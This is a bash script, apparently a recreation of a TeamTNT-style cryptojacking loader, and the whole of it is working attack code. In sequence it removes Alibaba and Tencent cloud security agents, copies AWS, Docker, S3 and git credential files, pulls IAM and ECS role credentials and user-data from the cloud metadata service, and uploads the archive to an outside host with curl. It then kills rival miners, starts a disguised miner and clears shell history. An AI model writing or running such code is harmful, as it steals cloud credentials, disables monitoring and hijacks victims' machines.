#!/bin/bash
# TeamTNT-style loader: functions with descriptive names, as in the 2021
# scripts. Upload endpoint and staging host are documentation addresses.
UPLOAD_URL=http://203.0.113.88/up/upload.php
STAGE=/var/tmp/.system
LOOT=$STAGE/.loot
export LC_ALL=C HISTFILE=/dev/null

CLEAN_UP_SECURITY() {
  if ps aux | grep -v grep | grep -q aliyun; then
    curl -sSL http://update.aegis.aliyun.com/download/uninstall.sh | bash
    curl -sSL http://update.aegis.aliyun.com/download/quartz_uninstall.sh | bash
    pkill aliyun-service
    rm -rf /etc/init.d/agentwatch /usr/sbin/aliyun-service /usr/local/aegis*
    systemctl stop aliyun.service; systemctl disable aliyun.service
    service bcm-agent stop; yum remove bcm-agent -y; apt-get remove bcm-agent -y
  fi
  if [ -d /usr/local/qcloud ]; then
    /usr/local/qcloud/stargate/admin/uninstall.sh
    /usr/local/qcloud/YunJing/uninst.sh
    /usr/local/qcloud/monitor/barad/admin/uninstall.sh
  fi
  systemctl stop cloudmonitor 2>/dev/null; /etc/init.d/cloudmonitor stop 2>/dev/null
  rm -rf /usr/local/cloudmonitor
}

GET_LOCAL_CREDS() {
  mkdir -p $LOOT
  for f in /root/.aws/credentials /root/.aws/config /home/*/.aws/credentials \
           /root/.docker/config.json /home/*/.docker/config.json \
           /root/.s3cfg /root/.passwd-s3fs /root/.boto /root/.git-credentials; do
    [ -f "$f" ] && cp "$f" "$LOOT/$(echo $f | tr / _)"
  done
  env | grep -E 'AWS_|DOCKER_|AZURE_|GOOGLE_' > $LOOT/env.txt
}

GET_AWS_METADATA() {
  local md=http://169.254.169.254/latest/meta-data
  local role
  role=$(curl -s --max-time 3 $md/iam/security-credentials/)
  if [ -n "$role" ]; then
    curl -s --max-time 3 $md/iam/security-credentials/$role > $LOOT/aws_iam_$role.json
  fi
  curl -s --max-time 3 $md/instance-id > $LOOT/instance-id
  curl -s --max-time 3 http://169.254.169.254/latest/user-data > $LOOT/user-data
  if [ -n "$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI" ]; then
    curl -s --max-time 3 http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI > $LOOT/ecs_task_creds.json
  fi
}

SEND_LOOT() {
  tar czf $STAGE/.l.tgz -C $LOOT . 2>/dev/null
  curl -s -F "userfile=@$STAGE/.l.tgz" -F "host=$(hostname)" $UPLOAD_URL
  rm -rf $LOOT $STAGE/.l.tgz
}

START_MINING() {
  sysctl -w vm.nr_hugepages=$(nproc) 2>/dev/null
  pkill -f xmrig; pkill -f kdevtmpfsi; pkill -f kinsing
  cd $STAGE/sbin && nohup ./kube-cleanup -c config.json >/dev/null 2>&1 &
}

CLEAN_UP_SECURITY
GET_LOCAL_CREDS
GET_AWS_METADATA
SEND_LOOT
START_MINING
history -c
